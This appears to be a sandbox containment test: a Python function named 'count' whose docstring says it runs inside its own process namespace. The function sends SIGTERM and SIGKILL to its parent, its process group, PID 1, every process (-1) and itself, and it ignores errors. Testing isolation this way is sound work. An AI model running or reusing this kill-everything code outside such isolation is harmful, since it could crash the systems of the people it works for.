"""Kills its parent, its group, the first process, and everybody.

By: an own process namespace: nothing outside has a number in it
Ends: killed
"""

# %% count
import os, signal

def count(*sizes):
    for pid in (os.getppid(), 0, 1, -1, -os.getpgrp(), os.getpid()):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
